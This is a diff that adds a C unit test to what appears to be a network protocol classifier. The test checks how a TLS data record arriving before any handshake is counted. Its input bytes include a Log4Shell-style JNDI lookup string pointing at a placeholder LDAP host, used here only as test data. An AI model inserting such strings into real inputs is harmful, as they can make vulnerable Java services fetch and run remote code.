@@ -51,3 +51,17 @@ START_TEST(a_datagram_like_quic_does_not_hide_dns)
 	ck_assert_uint_eq(seen(OBS_DNS), 1);
 }
 END_TEST
+
+// Five bytes that no connection begins with. In one that began before we came they are usual.
+START_TEST(a_record_of_data_before_any_hello_is_said)
+{
+	feed_bytes(true, bytes_of("\x17\3\3\x40\0<13>${jndi:ldap://x.example/a}\n", 37));
+	ck_assert_int_eq(app, APP_TLS);
+	ck_assert_uint_eq(counters.value[COUNT_PROTO_BAD], 1);
+	setup();
+	flow.midstream = true;
+	feed_bytes(true, bytes_of("\x17\3\3\x40\0abcde", 10));
+	ck_assert_int_eq(app, APP_TLS);
+	ck_assert_uint_eq(counters.value[COUNT_PROTO_BAD], 0);
+}
+END_TEST
